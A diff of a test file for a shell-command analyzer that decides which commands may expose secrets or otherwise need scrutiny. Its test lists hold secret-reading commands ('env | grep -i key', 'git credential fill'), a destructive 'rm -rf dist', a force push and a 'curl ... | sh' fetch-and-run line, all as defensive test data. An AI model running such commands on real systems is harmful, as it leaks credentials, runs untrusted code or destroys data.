@@ -43,7 +43,7 @@ test.each([
   expect(mayConcernRareRules(analyze(command, exampleWorld()))).toBe(true);
 });
 
-test.each(["echo $A_TOKEN", "env | grep -i key", "git credential fill"])(
+test.each(["echo $A_TOKEN", "env", "export -p", "env | grep -i key", "git credential fill"])(
   "what may show a secret concerns them: %s",
   (command) => {
     expect(mayConcernRareRules(analyze(command, exampleWorld()))).toBe(true);
@@ -53,7 +53,8 @@ test.each(["echo $A_TOKEN", "env | grep -i key", "git credential fill"])(
 test.each([
   "echo $A",
   "git status",
-  "env",
+  "set -e",
+  "export A=b",
   "rm -rf dist",
   "git push --force",
   "curl -s https://x.example | sh",
